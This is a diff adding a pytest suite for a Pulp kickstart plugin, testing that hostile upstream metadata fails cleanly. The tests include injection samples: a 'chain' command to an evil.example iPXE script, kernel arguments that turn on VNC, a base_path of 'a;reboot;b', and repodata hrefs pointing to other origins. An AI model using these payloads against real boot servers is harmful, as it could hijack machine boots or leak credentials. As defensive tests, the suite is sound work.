@@ -1,0 +1,281 @@
+"""Hostile upstreams against the real stack: nothing they send steers a boot or leaks a secret.
+
+Each test plays one attack the security review found (docs/security.md) and
+checks the sync fails with a clear error, or ignores the value, and that what
+Pulp serves is unchanged.
+"""
+
+import re
+import tempfile
+
+import pytest
+import requests
+
+from tests.support import dnf, fedora
+from tests.support.oci import Pusher
+from tests.support.paginating_proxy import PagingProxy
+from tests.support.pulp import CONTENT, unique
+
+from .conftest import latest, reports
+
+EVIL = "http://evil.example/pwn.ipxe"
+
+
+@pytest.fixture(scope="module")
+def workdir():
+    with tempfile.TemporaryDirectory(prefix="kickstart-hostile-") as directory:
+        yield directory
+
+
+@pytest.fixture
+def dnf_server():
+    servers = []
+
+    def _serve(tree):
+        server = dnf.StaticServer(tree.root).__enter__()
+        servers.append(server)
+        return server
+
+    yield _serve
+    for server in servers:
+        server.__exit__(None, None, None)
+
+
+@pytest.fixture
+def dnf_remote(api, cleanup):
+    def _make(server, **fields):
+        body = {"name": unique("dnf"), "url": server.url + "/", **fields}
+        remote = api.create("remotes/kickstart/dnf/", body)
+        cleanup(remote["pulp_href"])
+        return remote
+
+    return _make
+
+
+def _served_menu(api, repository, cleanup):
+    base_path = unique("hostile")
+    distribution = api.create(
+        "distributions/kickstart/kickstart/",
+        {"name": base_path, "base_path": base_path, "repository": repository["pulp_href"]},
+    )
+    cleanup(distribution["pulp_href"])
+    return f"{CONTENT}/pulp/content/{base_path}/boot.ipxe"
+
+
+def _rewrite(path, old, new):
+    text = path.read_text()
+    assert old in text, f"{old!r} not in {path}"
+    path.write_text(text.replace(old, new, 1))
+
+
+def _fails_and_changes_nothing(api, repository, remote, *expected):
+    before = latest(api, repository)
+    task = api.sync(repository, remote, raise_on_failure=False)
+    assert task["state"] == "failed", task
+    message = task["error"]["description"]
+    for text in expected:
+        assert text in message, message
+    assert latest(api, repository) == before
+    return message
+
+
+# -- 1. nothing from upstream becomes boot-script syntax ----------------------------------
+
+
+def test_a_treeinfo_continuation_line_cannot_reach_the_menu(
+    api,
+    workdir,
+    dnf_server,
+    dnf_remote,
+    repository,
+    cleanup,
+    upstream,
+    make_remote,
+    publish_release,
+):
+    publish_release(upstream, "41", archs=("amd64",))
+    api.sync(repository, make_remote(upstream))
+    menu_url = _served_menu(api, repository, cleanup)
+    menu_before = requests.get(menu_url, timeout=30).text
+
+    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-cont"))
+    release = "[release]\nname = Fedora\nshort = Fedora\nversion = 42\n"
+    _rewrite(tree.root / ".treeinfo", release, f"{release}  chain {EVIL}\n")
+    message = _fails_and_changes_nothing(
+        api, repository, dnf_remote(dnf_server(tree)), "[release] version"
+    )
+    assert "\n" not in message.split("[release] version", 1)[0][-200:]
+    assert requests.get(menu_url, timeout=30).text == menu_before
+    assert "evil" not in menu_before
+
+
+def test_a_kernel_path_with_arguments_fails_naming_the_key(
+    api, workdir, dnf_server, dnf_remote, repository
+):
+    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-args"))
+    _rewrite(
+        tree.root / ".treeinfo",
+        "kernel = images/pxeboot/vmlinuz",
+        "kernel = images/pxeboot/vmlinuz inst.vnc inst.vncpassword=x",
+    )
+    _fails_and_changes_nothing(
+        api, repository, dnf_remote(dnf_server(tree)), "[images-x86_64] kernel", "inst.vnc"
+    )
+
+
+def test_tags_outside_the_oci_grammar_are_ignored_and_named(
+    api, upstream, make_remote, repository, publish_release, cleanup
+):
+    publish_release(upstream, "42", archs=("amd64",))
+    injected = ["42\n-amd64", f"42\nchain {EVIL}"]
+    with PagingProxy(upstream.base, page_size=100, extra_tags=injected) as proxy:
+        remote = make_remote(Pusher(proxy.url, upstream.name), include_tags=["*"])
+        task = api.sync(repository, remote)
+    trees = api.trees(latest(api, repository))
+    assert {(t["version"], t["arch"]) for t in trees} == {("42", "x86_64")}
+    ignored = reports(task)["sync.ignored.tags"]
+    assert ignored["total"] == 2 and "42\\n-amd64" in ignored["message"]
+    menu = requests.get(_served_menu(api, repository, cleanup), timeout=30).text
+    assert "evil" not in menu and "chain http://" in menu
+
+
+def test_a_base_path_with_script_syntax_is_refused(api, repository):
+    response = api.request(
+        "POST",
+        "distributions/kickstart/kickstart/",
+        expect=(400,),
+        json={
+            "name": unique("d"),
+            "base_path": "a;reboot;b",
+            "repository": repository["pulp_href"],
+        },
+    )
+    assert "base_path" in response.json()
+
+
+# -- 3. requests and credentials stay where the admin pointed them --------------------------
+
+
+def test_metadata_urls_outside_the_tree_are_never_fetched(
+    api, workdir, dnf_server, dnf_remote, repository
+):
+    other = dnf_server(dnf.fedora_tree(workdir, release="40", salt=unique("-other")))
+    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-ssrf"))
+    repomd = tree.root / "repodata" / "repomd.xml"
+    primary = re.search(r'href="(repodata/[^"]*primary[^"]*)"', repomd.read_text()).group(1)
+    for target in (f"{other.url}/{primary}", f"//{other.url.split('//', 1)[1]}/{primary}"):
+        _rewrite(repomd, f'href="{primary}"', f'href="{target}"')
+        remote = dnf_remote(dnf_server(tree), username="user", password="pw-not-for-others")
+        message = _fails_and_changes_nothing(api, repository, remote, "not a relative path")
+        assert "pw-not-for-others" not in message
+        _rewrite(repomd, f'href="{target}"', f'href="{primary}"')
+    assert other.requests == []
+
+    _rewrite(
+        tree.root / ".treeinfo",
+        "kernel = images/pxeboot/vmlinuz",
+        f"kernel = {other.url}/images/pxeboot/vmlinuz",
+    )
+    _fails_and_changes_nothing(api, repository, dnf_remote(dnf_server(tree)), "kernel")
+    assert other.requests == []
+
+
+def test_a_tag_list_that_continues_on_another_origin_is_not_followed(
+    api, workdir, upstream, make_remote, repository, publish_release, dnf_server
+):
+    publish_release(upstream, "42", archs=("amd64",))
+    publish_release(upstream, "43", archs=("amd64",))
+    elsewhere = dnf_server(dnf.DnfTree(tempfile.mkdtemp(dir=workdir)))
+    with PagingProxy(upstream.base, page_size=1, link_base=elsewhere.url) as proxy:
+        remote = make_remote(Pusher(proxy.url, upstream.name))
+        _fails_and_changes_nothing(api, repository, remote, "another origin")
+    assert elsewhere.requests == []
+
+
+def test_a_tag_list_that_never_ends_is_cut_at_its_cap(
+    api, upstream, make_remote, repository, publish_release
+):
+    publish_release(upstream, "42", archs=("amd64",))
+    with PagingProxy(upstream.base, page_size=100, pad_bytes=5 * 1024 * 1024) as proxy:
+        remote = make_remote(Pusher(proxy.url, upstream.name))
+        _fails_and_changes_nothing(api, repository, remote, "KICKSTART_MAX_TAG_PAGE_BYTES")
+
+
+def test_a_treeinfo_past_its_cap_fails_naming_the_setting(
+    api, workdir, dnf_server, dnf_remote, repository
+):
+    tree = dnf.fedora_tree(workdir, release="42", salt=unique("-big"))
+    with open(tree.root / ".treeinfo", "a") as treeinfo:
+        treeinfo.write(("# padding\n" * 1024) * 120)  # 1.2 MiB
+    _fails_and_changes_nothing(
+        api, repository, dnf_remote(dnf_server(tree)), "KICKSTART_MAX_TREEINFO_BYTES"
+    )
+
+
+# -- 5. one tenant's sync never changes or breaks another's --------------------------------
+
+
+def test_one_manifest_under_two_releases_is_two_trees(
+    api, upstream, make_remote, repository, cleanup
+):
+    files = fedora.tree_files("42", "amd64", salt=upstream.name)
+    digest, _ = upstream.netboot("42-amd64", files)
+    api.sync(repository, make_remote(upstream, include_tags=["42-*"]))
+    upstream.netboot("43-amd64", files)  # the same manifest bytes under another release
+    other = api.create("repositories/kickstart/kickstart/", {"name": unique("repo")})
+    cleanup(other["pulp_href"])
+
+    api.sync(other, make_remote(upstream, include_tags=["43-*"]))
+
+    (first,) = api.trees(latest(api, repository))
+    (second,) = api.trees(latest(api, other))
+    assert first["digest"] == second["digest"] == digest
+    assert (first["version"], second["version"]) == ("42", "43")
+    kernel = dict(files)["vmlinuz"]
+    for repo, release in ((repository, "42"), (other, "43")):
+        base = _served_menu(api, repo, cleanup).rsplit("/", 1)[0]
+        url = f"{base}/{release}/x86_64/images/pxeboot/vmlinuz"
+        assert requests.get(url, timeout=30).content == kernel
+
+
+# -- 6. fail closed -------------------------------------------------------------------------
+
+
+def test_a_stored_tree_is_not_kept_under_gpg_keys_without_a_valid_signature(
+    api, workdir, dnf_server, dnf_remote, repository, cleanup
+):
+    signer = dnf.make_key("Hostile Signer", workdir)
+    trusted = dnf.make_key("Trusted Signer", workdir)
+    try:
+        tree = dnf.fedora_tree(workdir, release="42", key=signer, salt=unique("-gpg"))
+        server = dnf_server(tree)
+        api.sync(repository, dnf_remote(server))  # stored once, without keys
+        guarded = api.create("repositories/kickstart/kickstart/", {"name": unique("repo")})
+        cleanup(guarded["pulp_href"])
+        task = api.sync(
+            guarded, dnf_remote(server, gpg_keys=trusted.public_armored), raise_on_failure=False
+        )
+        assert task["state"] == "failed"
+        assert "not in gpg_keys" in task["error"]["description"]
+        assert api.trees(latest(api, guarded)) == []
+    finally:
+        signer.close()
+        trusted.close()
+
+
+def test_a_mirror_sync_that_would_remove_every_tree_needs_allow_empty(
+    api, upstream, make_remote, repository, publish_release
+):
+    publish_release(upstream, "42", archs=("amd64",))
+    api.sync(repository, make_remote(upstream))
+    held = latest(api, repository)
+    nothing = make_remote(upstream, include_tags=["no-such-release*"])
+
+    task = api.sync(repository, nothing, mirror=True, raise_on_failure=False)
+    assert task["state"] == "failed"
+    assert "allow_empty" in task["error"]["description"]
+    assert latest(api, repository) == held
+
+    body = {"remote": nothing["pulp_href"], "mirror": True, "allow_empty": True}
+    api.wait(api.post(f"{repository['pulp_href']}sync/", body)["task"])
+    assert api.trees(latest(api, repository)) == []
